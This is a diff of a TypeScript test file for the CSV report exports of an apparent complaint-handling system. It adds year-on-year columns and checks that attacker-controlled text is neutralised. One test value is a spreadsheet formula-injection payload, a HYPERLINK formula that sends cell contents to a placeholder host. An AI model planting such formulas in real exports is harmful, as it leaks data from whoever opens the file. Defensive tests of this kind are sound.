@@ -1,31 +1,20 @@
 import { parse } from 'csv-parse/sync';
-import { inArray } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { neutralise, toCsv, type Column } from '../api/csv';
-import { writeProjection } from '../db/projections';
+import { neutralise, toCsv } from '../api/csv';
+import type { Column } from '../api/export';
+import { xlsxType } from '../api/xlsx';
 import { monthBounds } from '../db/reports';
-import { complaints } from '../db/schema';
 import { shanghaiDate } from '../workflows/calendar';
-import { newCase } from '../workflows/case';
-import type { Complaint } from '../workflows/model';
-import { projectionOf, type CaseProjection } from '../workflows/projection';
 import { credentials, keys, startApiHarness, type ApiHarness } from './helpers/api';
-import { makeComplaint, uniqueId, workflowInput } from './helpers/cases';
+import { uniqueId } from './helpers/cases';
+import { reportRows } from './helpers/report-rows';
 
 const DAY = 86_400_000;
 const BOM = '\uFEFF';
 
 let h: ApiHarness;
-const ids: string[] = [];
-
-/** Writes a case row as the workflow would project it, with the given facts (as in read-side.test.ts). */
-async function seed(complaint: Partial<Complaint>, registeredAt: Date, facts: Partial<CaseProjection> = {}): Promise<string> {
-  const c = makeComplaint({ id: uniqueId('csv'), ...complaint });
-  const projection = { ...projectionOf(newCase(workflowInput(c), registeredAt.toISOString()), `complaint-${c.id}`), ...facts };
-  await writeProjection(h.database.db, projection, 1);
-  ids.push(c.id);
-  return c.id;
-}
+let readSide: ReturnType<typeof reportRows>;
+const seed: ReturnType<typeof reportRows>['seed'] = (...args) => readSide.seed(...args);
 
 // Text an attacker controls (district, polluter, unit), each starting with a formula character.
 const district = `=HYPERLINK("http://x.example/"&A1)-${uniqueId('d')}`;
@@ -39,6 +28,7 @@ let oldCase = '';
 
 beforeAll(async () => {
   h = await startApiHarness('reports-csv');
+  readSide = reportRows(h.database.db, 'csv');
   const now = Date.now();
   // This month: two wechat noise reports about one polluter in the formula district.
   const here = { location: { address: `甲路 ${uniqueId('a')} 号`, district }, polluter, channel: 'wechat' as const, category: 'noise' };
@@ -46,10 +36,12 @@ beforeAll(async () => {
   await seed(here, new Date(now - 120_000));
   // The month before: one report in a district with none this month, so its change is -1.
   const previousMonth = new Date(monthBounds(month).start.getTime() - DAY);
-  await seed({ location: { address: `乙路 ${uniqueId('b')} 号`, district: shrinking } }, previousMonth, { registeredAt: previousMonth.toISOString() });
+  await seed({ location: { address: `乙路 ${uniqueId('b')} 号`, district: shrinking } }, previousMonth);
+  // The same month a year before: one closed report in the formula district, so its 同比 is +100%.
+  const lastYear = new Date(monthBounds(month).lastYearStart.getTime() + DAY);
+  await seed({ location: { address: `丁路 ${uniqueId('y')} 号`, district } }, lastYear, { status: 'closed' });
   // An open case older than any other, overdue at a unit whose code starts with `+`.
-  oldCase = await seed({ location: { address: `丙路 ${uniqueId('c')} 号`, district: uniqueId('old') } }, new Date(now - 60_000), {
-    registeredAt: '2005-01-03T02:00:00.000Z',
+  oldCase = await seed({ location: { address: `丙路 ${uniqueId('c')} 号`, district: uniqueId('old') } }, new Date('2005-01-03T02:00:00.000Z'), {
     status: 'in_progress',
     overdue: true,
     handlingUnit: unit,
@@ -57,7 +49,7 @@ beforeAll(async () => {
 });
 
 afterAll(async () => {
-  if (ids.length > 0) await h?.database.db.delete(complaints).where(inArray(complaints.id, ids));
+  await readSide?.remove();
   await h?.close();
 });
 
@@ -109,13 +101,24 @@ describe('CSV reports', () => {
     expect(json.json().timelyAcceptance).toEqual({ numerator: 0, denominator: 0, value: null });
   });
 
-  it('neutralise formula text in the monthly counts, keep the change numeric, and translate channels and categories', async () => {
+  it('neutralise formula text in the monthly counts, keep the changes numeric, and translate channels and categories', async () => {
     const response = await get(`/reports/monthly?month=${month}&format=csv`);
     expect(response.headers['content-disposition']).toBe(`attachment; filename="monthly-${month}.csv"`);
     const rows = rowsOf(response.body);
-    expect(Object.keys(rows[0] ?? {})).toEqual(['维度', '项目', '数量', '上月', '变化']);
-    expect(rows).toContainEqual({ 维度: '区县', 项目: `'${district}`, 数量: '2', 上月: '0', 变化: '2' });
-    expect(rows).toContainEqual({ 维度: '区县', 项目: `'${shrinking}`, 数量: '0', 上月: '1', 变化: '-1' });
+    expect(Object.keys(rows[0] ?? {})).toEqual(['维度', '项目', '本月', '上月', '环比变化', '环比', '去年同期', '同比变化', '同比']);
+    // 环比 has no base (nothing the month before): an empty cell, not 0 or infinity.
+    expect(rows).toContainEqual({ 维度: '区县', 项目: `'${district}`, 本月: '2', 上月: '0', 环比变化: '2', 环比: '', 去年同期: '1', 同比变化: '1', 同比: '1' });
+    expect(rows).toContainEqual({
+      维度: '区县',
+      项目: `'${shrinking}`,
+      本月: '0',
+      上月: '1',
+      环比变化: '-1',
+      环比: '-1',
+      去年同期: '0',
+      同比变化: '0',
+      同比: '',
+    });
     expect(rows.find((r) => r['维度'] === '渠道' && r['项目'] === '微信')).toBeDefined();
     expect(rows.find((r) => r['维度'] === '类别' && r['项目'] === '噪声')).toBeDefined();
     // No raw code is left where a label exists.
@@ -125,8 +128,18 @@ describe('CSV reports', () => {
   it('keep English headers and codes with lang=en, still neutralised', async () => {
     const response = await get(`/reports/monthly?month=${month}&format=csv&lang=en`);
     const rows = rowsOf(response.body);
-    expect(response.body.startsWith(`${BOM}dimension,key,count,previous,change\r\n`)).toBe(true);
-    expect(rows).toContainEqual({ dimension: 'district', key: `'${district}`, count: '2', previous: '0', change: '2' });
+    expect(response.body.startsWith(`${BOM}dimension,key,count,previous,change,changeRate,lastYear,yearChange,yearChangeRate\r\n`)).toBe(true);
+    expect(rows).toContainEqual({
+      dimension: 'district',
+      key: `'${district}`,
+      count: '2',
+      previous: '0',
+      change: '2',
+      changeRate: '',
+      lastYear: '1',
+      yearChange: '1',
+      yearChangeRate: '1',
+    });
     expect(rows.find((r) => r.dimension === 'channel' && r.key === 'wechat')).toBeDefined();
   });
 
@@ -160,18 +173,18 @@ describe('CSV reports', () => {
   it('give exactly the header row for an empty period', async () => {
     const monthly = await get('/reports/monthly?month=2001-01&format=csv');
     expect(monthly.statusCode).toBe(200);
-    expect(monthly.body).toBe(`${BOM}维度,项目,数量,上月,变化\r\n`);
+    expect(monthly.body).toBe(`${BOM}维度,项目,本月,上月,环比变化,环比,去年同期,同比变化,同比\r\n`);
     const hotspots = await get('/reports/hotspots?from=2001-01-01&to=2001-01-31&format=csv&lang=en');
     expect(hotspots.body).toBe(`${BOM}type,key,label,count,previous\r\n`);
   });
 
-  it('declare format and lang on every report, and CSV as a response, in the OpenAPI document', async () => {
+  it('declare format and lang on every report, and CSV and xlsx as responses, in the OpenAPI document', async () => {
     const doc = (await h.app.inject({ method: 'GET', url: '/openapi.json' })).json();
     for (const path of ['/reports/kpi', '/reports/monthly', '/reports/hotspots', '/reports/backlog']) {
       const operation = doc.paths[path].get;
       const names = (operation.parameters as { name: string; in: string }[]).filter((p) => p.in === 'query').map((p) => p.name);
       expect(names, path).toEqual(expect.arrayContaining(['format', 'lang']));
-      expect(Object.keys(operation.responses['200'].content), path).toEqual(['application/json', 'text/csv']);
+      expect(Object.keys(operation.responses['200'].content), path).toEqual(['application/json', 'text/csv', xlsxType]);
     }
   });
 });
